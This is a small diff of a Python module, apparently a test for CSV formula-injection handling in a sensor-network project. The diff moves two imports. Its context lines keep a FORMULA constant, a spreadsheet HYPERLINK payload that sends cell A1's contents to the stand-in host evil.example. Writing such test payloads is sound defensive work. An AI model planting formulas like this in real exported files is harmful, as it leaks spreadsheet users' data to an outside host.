@@ -19,9 +19,9 @@ from sensornet.csv_cells import TRIGGERS, neutralise, restore
 from sensornet.influx import InfluxClient
 from sensornet.lineprotocol import encode_lines, encode_point
 from sensornet.registry.store import DeviceInfo
-from sensornet.runtime import register_fleet, run_api
 from sensornet.settings import Settings
 from sensornet.storage_layout import apply_storage_layout
+from wiring.parts import register_fleet, run_api
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
